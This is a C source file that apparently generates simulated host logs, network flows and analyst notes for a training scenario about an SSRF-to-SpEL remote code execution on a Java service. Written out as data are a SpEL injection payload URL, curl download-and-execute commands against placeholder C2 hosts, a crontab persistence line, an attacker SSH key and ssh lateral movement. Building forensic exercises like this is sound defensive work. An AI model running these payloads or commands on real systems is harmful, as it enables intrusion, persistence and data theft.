/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c - the attack of the java-rce story as each host records it (audit.log, auth.log,
 * app.log) and as the network sensor sees it (flows handed to zeek.c), then the host files
 * written out with the notes that point at them. Steps: SSRF recon and RCE on api-1 through
 * the internal SpEL template endpoint, the /dev/shm/kworker trojan renamed [kworker/14:1],
 * C2 beacons, config read, crontab and authorized_keys persistence, DB dump and exfiltration,
 * ssh to worker-1 with the service's key, api-2 exploited from a second address, and the C2
 * moving to a fallback address after the responders block the first.
 */
#include "jr.h"

#include <stdio.h>
#include <string.h>

#define UNSET 4294967295u
#define JAVA "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
#define CMD1 "curl http://" C2A "/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; " \
    "/dev/shm/kworker"
#define CMD2 "curl http://" C2B "/t2 -o /dev/shm/kworkerd; chmod +x /dev/shm/kworkerd; " \
    "/dev/shm/kworkerd"
#define CMD3 "curl -s http://" C2C "/k -o /dev/shm/.kthread; chmod +x /dev/shm/.kthread; " \
    "/dev/shm/.kthread"
#define CRONCMD "curl -fsS http://" C2A "/t -o /dev/shm/kworker && chmod +x /dev/shm/kworker " \
    "&& /dev/shm/kworker"
#define ATTACKER_KEY "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq8Rb3xT0mV2nK7cY5wL9dF1hJ4sP6eA8uZ3" \
    "kQ2tN1o root@vps-7731"
#define DEPLOY_KEY "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK2mW8pQ4rT6yU1iO3aS5dF7gH9jK0lZ2xC4v" \
    "B6nM8qE deploy@ci-runner"

enum { A_SH = 1, A_CURL, A_CREATE, A_EXEC, A_RENAME, A_C2, A_YML, A_CRON, A_KEYS, A_DB, A_SSH,
       A_FALLBACK, W_LOGIN, W_EXEC, W_RENAME, W_C2, B_EXEC, B_RENAME, B_C2, P_RECON, P_RCE,
       P_STACK, P_RCE2, W_AUTH, R_BOB };

static const char *const stack_internal[] = {
    "org.springframework.expression.spel.SpelEvaluationException: EL1001E: Type conversion "
    "problem, cannot convert from java.lang.ProcessImpl to java.lang.String",
    "\tat org.springframework.expression.spel.support.StandardTypeConverter.convertValue("
    "StandardTypeConverter.java:75)",
    "\tat org.springframework.expression.common.ExpressionUtils.convertTypedValue("
    "ExpressionUtils.java:57)",
    "\tat org.springframework.expression.common.CompositeStringExpression.getValue("
    "CompositeStringExpression.java:84)",
    "\tat com.acme.orders.internal.TemplateRenderer.render(TemplateRenderer.java:58)",
    "\tat com.acme.orders.internal.RenderController.render(RenderController.java:41)",
    "\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke("
    "DirectMethodHandleAccessor.java:103)",
    "\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)",
    "\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke("
    "InvocableHandlerMethod.java:255)",
    "\tat org.springframework.web.servlet.DispatcherServlet.doDispatch("
    "DispatcherServlet.java:1089)",
    "\tat org.springframework.web.servlet.FrameworkServlet.processRequest("
    "FrameworkServlet.java:1014)",
    "\tat org.apache.catalina.core.ApplicationFilterChain.doFilter("
    "ApplicationFilterChain.java:140)",
    "\tat org.apache.tomcat.util.net.NioEndpoint$SocketProcessor.doRun(NioEndpoint.java:1741)",
    "\tat org.apache.tomcat.util.threads.TaskThread$WrappingRunnable.run(TaskThread.java:63)",
    "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
};

static const char *const stack_preview[] = {
    "org.springframework.web.client.HttpServerErrorException$InternalServerError: 500 : "
    "\"{\"timestamp\":\"%s\",\"status\":500,\"error\":\"Internal Server Error\",\"path\":"
    "\"/internal/render\"}\"",
    "\tat org.springframework.web.client.HttpServerErrorException.create("
    "HttpServerErrorException.java:102)",
    "\tat org.springframework.web.client.DefaultResponseErrorHandler.handleError("
    "DefaultResponseErrorHandler.java:186)",
    "\tat org.springframework.web.client.RestTemplate.handleResponse(RestTemplate.java:942)",
    "\tat org.springframework.web.client.RestTemplate.doExecute(RestTemplate.java:891)",
    "\tat org.springframework.web.client.RestTemplate.getForObject(RestTemplate.java:412)",
    "\tat com.acme.orders.preview.LinkPreviewService.fetch(LinkPreviewService.java:64)",
    "\tat com.acme.orders.web.PreviewController.preview(PreviewController.java:37)",
    "\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke("
    "DirectMethodHandleAccessor.java:103)",
    "\tat org.springframework.web.servlet.DispatcherServlet.doDispatch("
    "DispatcherServlet.java:1089)",
    "\tat org.apache.tomcat.util.net.NioEndpoint$SocketProcessor.doRun(NioEndpoint.java:1741)",
    "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
};

static void ssrf_url(char *o, size_t n, const char *cmd)
{
    struct sb b = { 0 };
    const char *c;

    sb_s(&b, "http://127.0.0.1:8081/internal/render?tpl=%23%7BT(java.lang.Runtime).getRuntime()"
         ".exec(new%20String%5B%5D%7B'sh','-c','");
    for (c = cmd; *c; c++) {
        if (*c == ' ')
            sb_s(&b, "%20");
        else if (*c == '+')
            sb_s(&b, "%2B");
        else
            sb_add(&b, c, 1);
    }
    sb_s(&b, "'%7D)%7D");
    snprintf(o, n, "%s", b.p);
    free(b.p);
}

/* Web request through the load balancer: client -> LB:443, LB -> host:8080. */
static void web_flow(struct host *h, int64_t t, const char *client, int tag, const char *why)
{
    struct flow f = { 0 };

    f.t = t - 40 * MS;
    f.src = client;
    f.sport = eph_port();
    f.dst = LB_IP;
    f.dport = 443;
    f.service = "ssl";
    f.dur = 420 * MS + rng_range(0, 300) * MS;
    f.ob = 1900 + (uint64_t)rng_n(400);
    f.rb = 700 + (uint64_t)rng_n(3000);
    f.tag = tag;
    f.why = why;
    flow_add(&f);
    f.t = t - 20 * MS;
    f.src = LB_IP;
    f.sport = eph_port();
    f.dst = h->ip;
    f.dport = 8080;
    f.service = "http";
    f.tag = 0;
    f.why = NULL;
    f.dur -= 30 * MS;
    flow_add(&f);
}

/* RCE through the preview endpoint on host h: app log, stack traces, the shell chain. */
static void rce(struct host *h, int idx, int sec, const char *client, const char *cmd,
                const char *dropper, const char *url_path, const char *shm, const char *kname,
                int tag_rce, int tag_sh, int tag_exec, int tag_rename)
{
    int64_t t = at(sec) + 402 * MS;
    char url[1024], msg[1400], ts[TF_LEN], dl[128];
    int pid = pid_at(sec) + 2;
    size_t i;
    struct proc java = { 0, 1, APP_UID, UNSET, UNSET, "java", JAVA, "/opt/orders-api", NULL };
    struct proc p = java;
    const char *shv[3] = { "sh", "-c", cmd };
    const char *curlv[4] = { "curl", dl, "-o", shm };
    const char *chv[3] = { "chmod", "+x", shm };
    const char *exv[1] = { shm };
    struct flow f = { 0 };

    java.pid = java_pid[idx];
    snprintf(dl, sizeof(dl), "http://%s%s", dropper, url_path);
    ssrf_url(url, sizeof(url), cmd);
    snprintf(msg, sizeof(msg), "GET /api/v1/preview url=%s client=%s", url, client);
    applog(h, t, tag_rce, "INFO", java.pid, "nio-8080-exec-7", "c.a.orders.web.PreviewController",
           msg);
    web_flow(h, t, client, 0, NULL);
    applog(h, t + 31 * MS, 0, "ERROR", java.pid, "nio-8081-exec-1",
           "o.a.c.c.C.[.[.[/].[dispatcherServlet]", "Servlet.service() for servlet "
           "[dispatcherServlet] in context with path [/internal] threw exception [Request "
           "processing failed: org.springframework.expression.spel.SpelEvaluationException: "
           "EL1001E: Type conversion problem, cannot convert from java.lang.ProcessImpl to "
           "java.lang.String] with root cause");
    for (i = 0; i < sizeof(stack_internal) / sizeof(stack_internal[0]); i++)
        lines_add(&h->app, t + 31 * MS, i == 4 && idx == 0 ? P_STACK : 0, "%s",
                  stack_internal[i]);
    applog(h, t + 47 * MS, 0, "WARN", java.pid, "nio-8080-exec-7",
           "c.a.orders.preview.LinkPreviewService", "preview fetch failed for "
           "http://127.0.0.1:8081/internal/render");
    tf_iso_ms(ts, (t + 31 * MS) / MS);
    snprintf(msg, sizeof(msg), stack_preview[0], ts);
    lines_add(&h->app, t + 47 * MS, 0, "%s", msg);
    for (i = 1; i < sizeof(stack_preview) / sizeof(stack_preview[0]); i++)
        lines_add(&h->app, t + 47 * MS, 0, "%s", stack_preview[i]);

    /* java -> sh -c -> curl; chmod; the dropped binary */
    p.pid = pid;
    p.ppid = java.pid;
    p.comm = "sh";
    p.exe = "/usr/bin/dash";
    au_execve(h, t + 20 * MS, tag_sh, &p, 3, shv, "exec");
    p.pid = pid + 1;
    p.ppid = pid;
    p.comm = "curl";
    p.exe = "/usr/bin/curl";
    au_execve(h, t + 24 * MS, 0, &p, 4, curlv, "exec");
    au_connect(h, t + 29 * MS, 0, &p, dropper, 80, "net_out");
    au_open(h, t + 212 * MS, idx == 0 ? A_CREATE : 0, &p, shm, 1, "shm");
    f.t = t + 29 * MS;
    f.src = h->ip;
    f.sport = eph_port();
    f.dst = dropper;
    f.dport = 80;
    f.service = "http";
    f.dur = 780 * MS;
    f.ob = 96;
    f.rb = 812344;
    f.tag = tag_sh;
    snprintf(msg, sizeof(msg), "%s downloads the trojan from %s%s", h->name, dropper, url_path);
    f.why = xstrdup(msg);
    flow_add(&f);
    p.pid = pid + 2;
    p.comm = "chmod";
    p.exe = "/usr/bin/chmod";
    au_execve(h, t + 830 * MS, 0, &p, 3, chv, "exec");
    p.pid = pid + 3;
    p.comm = strrchr(shm, '/') + 1;
    p.exe = shm;
    au_execve(h, t + 842 * MS, tag_exec, &p, 1, exv, "exec");
    p.comm = kname;
    au_prctl(h, t + 850 * MS, tag_rename, &p, "proc_rename");
}

/* The daemonised trojan's beacons from 'from' to 'until' every ~5 minutes. */
static void beacons(struct host *h, const struct proc *p, int from, int until, const char *c2,
                    int port, int tag, int exfil_at)
{
    int s, first = 1;
    struct flow f = { 0 };

    for (s = from; s < until; s += 290 + (int)rng_n(21)) {
        int64_t t = at(s) + rng_range(0, 999) * MS;
        int blocked = strcmp(c2, C2A) == 0 && s >= T_BLOCK;
        au_connect(h, t, first ? tag : 0, p, c2, port, "net_out");
        f.t = t;
        f.src = h->ip;
        f.sport = eph_port();
        f.dst = c2;
        f.dport = port;
        f.service = port == 8443 || port == 443 ? "ssl" : NULL;
        f.state = blocked ? 1 : 0;
        f.dur = blocked ? 0 : rng_range(150, 900) * MS;
        f.ob = blocked ? 0 : 310 + (uint64_t)rng_n(600);
        f.rb = blocked ? 0 : 120 + (uint64_t)rng_n(900);
        f.tag = first ? tag : 0;
        f.why = first ? "first connection of the renamed trojan to this C2" : NULL;
        if (exfil_at && s >= exfil_at && s < exfil_at + 300) {
            f.ob = 9437184 + (uint64_t)rng_n(4096);
            f.dur = 48 * NS;
            f.tag = A_C2 + 100;
            f.why = "exfiltration: ~9 MB sent to the C2 (the orders table dump, compressed)";
        }
        flow_add(&f);
        first = 0;
    }
}

static void api1(void)
{
    struct host *h = &hosts[H_API1];
    struct proc d = { 0, 1, APP_UID, UNSET, UNSET, "[kworker/14:1]", "/dev/shm/kworker",
                      "/", NULL };
    struct proc c = d;
    const char *cronv[3] = { "sh", "-c", "(crontab -l 2>/dev/null; echo '*/10 * * * * " CRONCMD
                             "') | crontab -" };
    const char *ctv[2] = { "crontab", "-" };
    const char *keyv[3] = { "sh", "-c", "echo '" ATTACKER_KEY "' >> "
                            "/home/orders/.ssh/authorized_keys" };
    const char *sshv[9] = { "ssh", "-i", "/home/orders/.ssh/id_ed25519", "-o",
                            "StrictHostKeyChecking=no", "-o", "BatchMode=yes",
                            "orders@10.20.2.21", CMD3 };
    const char *cronexec[3] = { "curl", "-fsS", "http://" C2A "/t" };
    static const char *const bob_cmds[4] = { "/usr/bin/ps -ef", "/usr/bin/ls -la /dev/shm",
        "/usr/bin/ss -tnp", "/usr/bin/cat /var/spool/cron/crontabs/orders" };
    char msg[512];
    struct flow f = { 0 };
    int s, pid;

    snprintf(msg, sizeof(msg),
             "GET /api/v1/preview url=http://127.0.0.1:8081/actuator/health client="
             ATTACKER1);
    applog(h, at(T_RECON) + 117 * MS, P_RECON, "INFO", java_pid[0], "nio-8080-exec-3",
           "c.a.orders.web.PreviewController", msg);
    web_flow(h, at(T_RECON) + 117 * MS, ATTACKER1, P_RECON, "first SSRF probe from " ATTACKER1
             " through the load balancer");
    applog(h, at(T_RECON + 44) + 310 * MS, 0, "INFO", java_pid[0], "nio-8080-exec-9",
           "c.a.orders.web.PreviewController",
           "GET /api/v1/preview url=http://169.254.169.254/latest/"
           "meta-data/iam/security-credentials/ client=" ATTACKER1);
    applog(h, at(T_RECON + 44) + 322 * MS, 0, "WARN", java_pid[0], "nio-8080-exec-9",
           "c.a.orders.preview.LinkPreviewService", "preview fetch failed for "
           "http://169.254.169.254/latest/meta-data/iam/security-credentials/: 401 Unauthorized");
    web_flow(h, at(T_RECON + 44) + 310 * MS, ATTACKER1, 0, NULL);
    rce(h, 0, T_RCE1, ATTACKER1, CMD1, C2A, "/t", "/dev/shm/kworker", "[kworker/14:1]", P_RCE,
        A_SH, A_EXEC, A_RENAME);
    d.pid = pid_at(T_RCE1) + 6;
    beacons(h, &d, T_RCE1 + 1, T_FALLBACK, C2A, 8443, A_C2, T_EXFIL);
    beacons(h, &d, T_FALLBACK, 86400, C2A2, 8443, A_FALLBACK, 0);
    au_open(h, at(T_YML) + 51 * MS, A_YML, &d, APP_YML, 0, "app_secrets");
    /* cron persistence */
    c.pid = pid_at(T_CRON);
    c.ppid = d.pid;
    c.comm = "sh";
    c.exe = "/usr/bin/dash";
    au_execve(h, at(T_CRON) + 88 * MS, A_CRON, &c, 3, cronv, "exec");
    c.pid++;
    c.ppid = c.pid - 1;
    c.comm = "crontab";
    c.exe = "/usr/bin/crontab";
    au_execve(h, at(T_CRON) + 95 * MS, 0, &c, 2, ctv, "exec");
    au_open(h, at(T_CRON) + 101 * MS, 0, &c, "/var/spool/cron/crontabs/orders", 1, "cron");
    c.pid += 2;
    c.ppid = d.pid;
    c.comm = "sh";
    c.exe = "/usr/bin/dash";
    au_execve(h, at(T_CRON + 40) + 7 * MS, 0, &c, 3, keyv, "exec");
    au_open(h, at(T_CRON + 40) + 9 * MS, A_KEYS, &c, "/home/orders/.ssh/authorized_keys", 0,
            "ssh_keys");
    for (s = 12 * 3600; s < 86400; s += 600) {
        cron_job(h, s, APP_UID, APP_USER, 3, cronexec, "/usr/bin/curl", CRONCMD);
        pid = pid_at(s) + 2;
        c.pid = pid;
        c.ppid = pid - 1;
        c.auid = APP_UID;
        c.ses = ses_at(s, 0);
        c.comm = "curl";
        c.exe = "/usr/bin/curl";
        au_connect(h, at(s) + 1100 * MS, 0, &c, C2A, 80, "net_out");
        f.t = at(s) + 1100 * MS;
        f.src = h->ip;
        f.sport = eph_port();
        f.dst = C2A;
        f.dport = 80;
        f.service = s >= T_BLOCK ? NULL : "http";
        f.state = s >= T_BLOCK ? 1 : 0;
        f.dur = s >= T_BLOCK ? 0 : 640 * MS;
        f.ob = s >= T_BLOCK ? 0 : 98;
        f.rb = s >= T_BLOCK ? 0 : 812344;
        flow_add(&f);
    }
    /* the database dump with the stolen credentials */
    au_connect(h, at(T_DUMP) + 12 * MS, A_DB, &d, DB_IP, 5432, "net_out");
    f.t = at(T_DUMP) + 12 * MS;
    f.sport = eph_port();
    f.dst = DB_IP;
    f.dport = 5432;
    f.service = "postgresql";
    f.state = 0;
    f.dur = 71 * NS;
    f.ob = 4120;
    f.rb = 48213377;
    f.tag = A_DB;
    f.why = "the renamed trojan dumps the orders database (48 MB) with the credentials of "
            APP_YML;
    flow_add(&f);
    /* ssh to worker-1 with the service's key */
    c = d;
    c.pid = pid_at(T_SSH);
    c.ppid = d.pid;
    c.comm = "ssh";
    c.exe = "/usr/bin/ssh";
    au_execve(h, at(T_SSH) + 3 * MS, A_SSH, &c, 9, sshv, "exec");
    au_connect(h, at(T_SSH) + 9 * MS, 0, &c, hosts[H_WORKER].ip, 22, "net_out");
    f.t = at(T_SSH) + 9 * MS;
    f.sport = 49822;
    f.dst = hosts[H_WORKER].ip;
    f.dport = 22;
    f.service = "ssh";
    f.dur = 4 * NS + 212 * MS;
    f.ob = 5230;
    f.rb = 4410;
    f.tag = A_SSH;
    f.why = "api-1 -> worker-1 ssh as orders with /home/orders/.ssh/id_ed25519";
    flow_add(&f);
    admin_session(h, 13 * 3600 + 40 * 60 + 5, "bob", 1002,
                  "Yt7wQ2eR9uI4oP6aS1dF3gH8jK5lZ0xC7vB2nM4qW9e", 4, bob_cmds);
}

static void worker(void)
{
    struct host *h = &hosts[H_WORKER];
    int64_t t = at(T_SSH) + 240 * MS;
    int pid = pid_at(T_SSH);
    unsigned ses = ses_at(T_SSH, 2);
    char line[512];
    struct proc p = { pid + 2, pid + 1, APP_UID, APP_UID, ses, "bash", "/usr/bin/bash",
                      "/opt/orders-api", NULL };
    const char *bv[3] = { "bash", "-c", CMD3 };
    const char *cv[4] = { "curl", "-s", "http://" C2C "/k", "-o" };
    const char *cv5[5] = { "curl", "-s", "http://" C2C "/k", "-o", "/dev/shm/.kthread" };
    const char *chv[3] = { "chmod", "+x", "/dev/shm/.kthread" };
    const char *xv[1] = { "/dev/shm/.kthread" };
    struct flow f = { 0 };

    (void)cv;
    snprintf(line, sizeof(line), "sshd[%d]: Accepted publickey for orders from 10.20.1.11 port "
             "49822 ssh2: ED25519 SHA256:Jq3mV8xN1cL5tR7wY2bK9dF4hG6sA0zP8eU3iO5nQ1k", pid);
    auth(h, t, W_AUTH, "%s%s", line, "");
    au_user(h, t, W_LOGIN, "USER_ACCT", pid, 0, UNSET, UNSET, "op=PAM:accounting "
            "grantors=pam_permit acct=\"orders\" exe=\"/usr/sbin/sshd\" hostname=10.20.1.11 "
            "addr=10.20.1.11 terminal=ssh res=success");
    au_login(h, t + 2 * MS, pid, APP_UID, ses);
    au_user(h, t + 4 * MS, 0, "USER_START", pid, 0, APP_UID, ses, "op=PAM:session_open "
            "grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,"
            "pam_systemd,pam_limits,pam_env,pam_env,pam_selinux acct=\"orders\" "
            "exe=\"/usr/sbin/sshd\" hostname=10.20.1.11 addr=10.20.1.11 terminal=ssh "
            "res=success");
    snprintf(line, sizeof(line), "sshd[%d]: pam_unix(sshd:session): session opened for user "
             "orders(uid=998) by (uid=0)", pid);
    auth(h, t + 4 * MS, 0, "%s%s", line, "");
    au_execve(h, t + 30 * MS, W_EXEC, &p, 3, bv, "exec");
    p.pid++;
    p.ppid = p.pid - 1;
    p.comm = "curl";
    p.exe = "/usr/bin/curl";
    au_execve(h, t + 34 * MS, 0, &p, 5, cv5, "exec");
    au_connect(h, t + 39 * MS, 0, &p, C2C, 80, "net_out");
    au_open(h, t + 301 * MS, 0, &p, "/dev/shm/.kthread", 1, "shm");
    f.t = t + 39 * MS;
    f.src = h->ip;
    f.sport = eph_port();
    f.dst = C2C;
    f.dport = 80;
    f.service = "http";
    f.dur = 610 * MS;
    f.ob = 101;
    f.rb = 790512;
    f.tag = W_EXEC;
    f.why = "worker-1 downloads /k from " C2C;
    flow_add(&f);
    p.pid++;
    p.comm = "chmod";
    p.exe = "/usr/bin/chmod";
    au_execve(h, t + 700 * MS, 0, &p, 3, chv, "exec");
    p.pid++;
    p.comm = ".kthread";
    p.exe = "/dev/shm/.kthread";
    au_execve(h, t + 712 * MS, 0, &p, 1, xv, "exec");
    p.comm = "[kworker/u8:2]";
    au_prctl(h, t + 719 * MS, W_RENAME, &p, "proc_rename");
    snprintf(line, sizeof(line), "sshd[%d]: Disconnected from user orders 10.20.1.11 port 49822",
             pid);
    auth(h, t + 3900 * MS, 0, "%s%s", line, "");
    snprintf(line, sizeof(line), "sshd[%d]: pam_unix(sshd:session): session closed for user "
             "orders", pid);
    auth(h, t + 3901 * MS, 0, "%s%s", line, "");
    au_user(h, t + 3901 * MS, 0, "USER_END", pid, 0, APP_UID, ses, "op=PAM:session_close "
            "grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,"
            "pam_systemd,pam_limits,pam_env,pam_env,pam_selinux acct=\"orders\" "
            "exe=\"/usr/sbin/sshd\" hostname=10.20.1.11 addr=10.20.1.11 terminal=ssh "
            "res=success");
    p.pid++;
    p.ppid = 1;
    beacons(h, &p, T_SSH + 2, 86400, C2C, 8080, W_C2, 0);
}

static void api2(void)
{
    struct host *h = &hosts[H_API2];
    struct proc d = { 0, 1, APP_UID, UNSET, UNSET, "[kworker/3:2]", "/dev/shm/kworkerd", "/",
                      NULL };

    rce(h, 1, T_RCE2, ATTACKER2, CMD2, C2B, "/t2", "/dev/shm/kworkerd", "[kworker/3:2]", P_RCE2,
        B_EXEC, B_EXEC + 200, B_RENAME);
    d.pid = pid_at(T_RCE2) + 6;
    beacons(h, &d, T_RCE2 + 1, 86400, C2B, 443, B_C2, 0);
}

static void files(void)
{
    static const char crontab[] =
        "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
        "# (- installed on Tue Oct 27 11:58:41 2026)\n"
        "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
        "*/10 * * * * " CRONCMD "\n";
    static const char keys[] = DEPLOY_KEY "\n" ATTACKER_KEY "\n";
    char path[256];
    int i;

    for (i = 0; i < NHOSTS; i++) {
        struct host *h = &hosts[i];
        struct sb b = { 0 };
        au_render(h);
        snprintf(path, sizeof(path), "hosts/%s/var/log/audit/audit.log", h->name);
        out_file(path, h->audit_out.p, h->audit_out.n);
        lines_render(&h->auth, &b);
        snprintf(path, sizeof(path), "hosts/%s/var/log/auth.log", h->name);
        out_file(path, b.p, b.n);
        free(b.p);
        if (i != H_WORKER) {
            struct sb a = { 0 };
            lines_render(&h->app, &a);
            snprintf(path, sizeof(path), "hosts/%s/var/log/orders-api/app.log", h->name);
            out_file(path, a.p, a.n);
            free(a.p);
        }
    }
    out_file_mode("hosts/api-1/var/spool/cron/crontabs/orders", crontab, strlen(crontab), 0600);
    out_file_mode("hosts/api-1/home/orders/.ssh/authorized_keys", keys, strlen(keys), 0600);
}

#define AU1 "hosts/api-1/var/log/audit/audit.log"
#define AU2 "hosts/api-2/var/log/audit/audit.log"
#define AUW "hosts/worker-1/var/log/audit/audit.log"
#define APP1 "hosts/api-1/var/log/orders-api/app.log"
#define APP2 "hosts/api-2/var/log/orders-api/app.log"

static void notes(void)
{
    struct host *a = &hosts[H_API1], *b = &hosts[H_API2], *w = &hosts[H_WORKER];

    note(at(T_RECON), APP1, lines_tag(&a->app, P_RECON),
         "SSRF probe: preview of http://127.0.0.1:8081/actuator/health from " ATTACKER1);
    note(at(T_RCE1), APP1, lines_tag(&a->app, P_RCE),
         "SSRF to the internal SpEL template endpoint /internal/render: RCE");
    note(at(T_RCE1), APP1, lines_tag(&a->app, P_STACK),
         "the call stack: RenderController.render <- TemplateRenderer (SpEL) reached through "
         "PreviewController.preview / LinkPreviewService.fetch");
    note(at(T_RCE1), AU1, au_tag(a, A_SH), "java (uid orders) runs sh -c '" CMD1 "'");
    note(at(T_RCE1), AU1, au_tag(a, A_CREATE), "curl creates /dev/shm/kworker");
    note(at(T_RCE1), AU1, au_tag(a, A_EXEC), "/dev/shm/kworker executed");
    note(at(T_RCE1), AU1, au_tag(a, A_RENAME),
         "prctl(PR_SET_NAME): the process renames itself [kworker/14:1]");
    note(at(T_RCE1), AU1, au_tag(a, A_C2), "first C2 connection to " C2A ":8443");
    note(at(T_YML), AU1, au_tag(a, A_YML), "the trojan reads " APP_YML " (DB credentials)");
    note(at(T_CRON), AU1, au_tag(a, A_CRON),
         "persistence: crontab of orders re-downloads the trojan every 10 minutes "
         "(hosts/api-1/var/spool/cron/crontabs/orders)");
    note(at(T_CRON + 40), AU1, au_tag(a, A_KEYS),
         "persistence: attacker key appended to /home/orders/.ssh/authorized_keys");
    note(at(T_DUMP), AU1, au_tag(a, A_DB), "the trojan connects to the database " DB_IP ":5432");
    note(at(T_RCE2), APP2, lines_tag(&b->app, P_RCE2),
         "api-2: the same SSRF from a new address " ATTACKER2);
    note(at(T_RCE2), AU2, au_tag(b, B_EXEC), "api-2: java runs sh -c '" CMD2 "'");
    note(at(T_RCE2), AU2, au_tag(b, B_RENAME), "api-2: /dev/shm/kworkerd renames itself "
         "[kworker/3:2]");
    note(at(T_RCE2), AU2, au_tag(b, B_C2), "api-2: C2 " C2B ":443");
    note(at(T_SSH), AU1, au_tag(a, A_SSH), "api-1: the trojan runs ssh -i "
         "/home/orders/.ssh/id_ed25519 orders@10.20.2.21 '" CMD3 "'");
    note(at(T_SSH), "hosts/worker-1/var/log/auth.log", lines_tag(&w->auth, W_AUTH),
         "worker-1: Accepted publickey for orders from 10.20.1.11");
    note(at(T_SSH), AUW, au_tag(w, W_EXEC), "worker-1: bash -c '" CMD3 "'");
    note(at(T_SSH), AUW, au_tag(w, W_RENAME), "worker-1: /dev/shm/.kthread renames itself "
         "[kworker/u8:2]");
    note(at(T_SSH), AUW, au_tag(w, W_C2), "worker-1: C2 " C2C ":8080");
    note_at(at(13 * 3600 + 40 * 60 + 5), "hosts/api-1/var/log/auth.log",
            "RESPONSE: bob logs in to api-1 from the bastion (ps, ls /dev/shm, ss, crontab)");
    note_at(at(T_BLOCK), "zeek/", "RESPONSE: " C2A " blocked at the firewall: later connections "
            "to it are S0 in conn.log");
    note(at(T_FALLBACK), AU1, au_tag(a, A_FALLBACK),
         "api-1: the trojan moves to the fallback C2 " C2A2 ":8443");
}

void gen_hosts(void)
{
    benign();
    api1();
    api2();
    worker();
    files();
    notes();
}
